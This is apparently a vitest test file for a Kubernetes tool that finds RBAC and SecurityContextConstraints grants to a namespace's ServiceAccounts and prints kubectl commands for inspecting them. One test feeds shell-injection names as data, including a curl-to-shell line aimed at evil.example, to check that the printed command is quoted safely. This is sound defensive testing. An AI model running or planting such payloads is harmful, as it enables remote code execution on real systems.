import { describe, expect, test } from 'vitest';
import type { JsonObject, KubeObject } from '../../src/kube/api-types.ts';
import { grantFinding, grantsOf, newGrants } from '../../src/needs/grant-needs.ts';
import { object } from '../helpers/objects.ts';
import { clusterObject, names } from './samples.ts';

const RBAC = 'rbac.authorization.k8s.io/v1';
const ADMIN = { kind: 'ClusterRole', name: 'admin' };

const clusterBinding = (name: string, subjects: JsonObject[], metadata: JsonObject = {}): KubeObject =>
  clusterObject(RBAC, 'ClusterRoleBinding', name, { subjects, roleRef: ADMIN, metadata });
const bindingIn = (namespace: string, name: string, subjects: JsonObject[]): KubeObject =>
  object(RBAC, 'RoleBinding', name, { subjects, roleRef: ADMIN, metadata: { namespace } });

const account = (name: string, namespace = 'shop') => ({ kind: 'ServiceAccount', name, namespace });

describe('grants to ServiceAccounts of a namespace', () => {
  test.each([
    ['a ServiceAccount', account('web'), ['ServiceAccount web']],
    [
      'the user of a ServiceAccount',
      { kind: 'User', name: 'system:serviceaccount:shop:web' },
      ['ServiceAccount web'],
    ],
    [
      'the group of the namespace',
      { kind: 'Group', name: 'system:serviceaccounts:shop' },
      ['all ServiceAccounts'],
    ],
    ['a ServiceAccount of another namespace', account('web', 'shop-2'), undefined],
    ['the user of another namespace', { kind: 'User', name: 'system:serviceaccount:shop-2:web' }, undefined],
    ['the group of another namespace', { kind: 'Group', name: 'system:serviceaccounts:shop-2' }, undefined],
    ['the group of all ServiceAccounts', { kind: 'Group', name: 'system:serviceaccounts' }, undefined],
    ['a person', { kind: 'User', name: 'web' }, undefined],
  ])('F57: a ClusterRoleBinding to %s', (_, subject, expected) => {
    expect(grantsOf([clusterBinding('x', [subject])], 'shop')[0]?.subjects).toEqual(expected);
  });

  test('F57: RoleBindings count in other namespaces, not in the namespace itself', () => {
    const bindings = [
      bindingIn('shop', 'own', [account('web')]),
      bindingIn('infra', 'reader', [account('web')]),
    ];
    expect(grantsOf(bindings, 'shop').map(({ object: { metadata } }) => metadata.name)).toEqual(['reader']);
  });

  test('F57: bindings that Kubernetes itself makes are left out', () => {
    const labels = { 'kubernetes.io/bootstrapping': 'rbac-defaults' };
    expect(grantsOf([clusterBinding('x', [account('web')], { labels })], 'shop')).toEqual([]);
  });

  test('F57, F55: users and groups of SecurityContextConstraints are grants, too', () => {
    const scc = clusterObject('security.openshift.io/v1', 'SecurityContextConstraints', 'anyuid', {
      users: ['system:serviceaccount:shop:web', 'admin'],
      groups: ['system:serviceaccounts:shop'],
    });
    expect(grantsOf([scc], 'shop')).toMatchObject([
      {
        subjects: ['ServiceAccount web', 'all ServiceAccounts'],
        role: 'the use of SecurityContextConstraints anyuid',
      },
    ]);
  });

  test('F57: the finding is an information with the command that shows the grant', () => {
    const [grant] = grantsOf([bindingIn('infra', 'reader', [account('web')])], 'shop');
    if (grant === undefined) throw new Error('no grant found');
    expect(grantFinding(names, 'rolebindings.rbac.authorization.k8s.io', grant)).toEqual({
      level: 'info',
      id: 'grant-not-copied',
      subject: 'RoleBinding reader in namespace infra',
      message:
        'RoleBinding reader in namespace infra of context east grants ClusterRole admin in namespace infra to ' +
        'ServiceAccount web of namespace shop. It is outside the namespace and is not copied; if the copy needs it, ' +
        'create the same grant at the destination. Inspect it with: kubectl --context east -n infra get ' +
        'rolebindings.rbac.authorization.k8s.io/reader -o yaml',
    });
  });
});

test.each([
  ['a;curl -s evil.example|sh;#', "'rolebindings.rbac.authorization.k8s.io/a;curl -s evil.example|sh;#'"],
  ['$(touch x)`y`', "'rolebindings.rbac.authorization.k8s.io/$(touch x)`y`'"],
  ["it's", "'rolebindings.rbac.authorization.k8s.io/it'\\''s'"],
  ['--as=admin', 'rolebindings.rbac.authorization.k8s.io/--as=admin'],
])('S6: the name %s is one word of the printed command, and no flag', (name, word) => {
  const [grant] = grantsOf([bindingIn('infra', name, [account('web')])], 'shop');
  if (grant === undefined) throw new Error('no grant found');
  expect(grantFinding(names, 'rolebindings.rbac.authorization.k8s.io', grant).message).toContain(
    `kubectl --context east -n infra get ${word} -o yaml`,
  );
});

describe('grants that the destination has', () => {
  const source = grantsOf([clusterBinding('x', [account('web'), account('api')])], 'shop');

  test.each([
    ['the same role to the same accounts', ['web', 'api'], 0],
    ['the same role to some of them', ['web'], 1],
    ['the role to nobody', [], 1],
  ])('F57: a destination that gives %s', (_, accounts, left) => {
    const bindings = accounts.map((name) => clusterBinding(`dr-${name}`, [account(name, 'shop-dr')]));
    expect(newGrants(source, grantsOf(bindings, 'shop-dr'))).toHaveLength(left);
  });

  test('F57: the same role in one namespace only is another grant', () => {
    const narrow = bindingIn('infra', 'x', [account('web', 'shop-dr'), account('api', 'shop-dr')]);
    expect(newGrants(source, grantsOf([narrow], 'shop-dr'))).toHaveLength(1);
  });
});
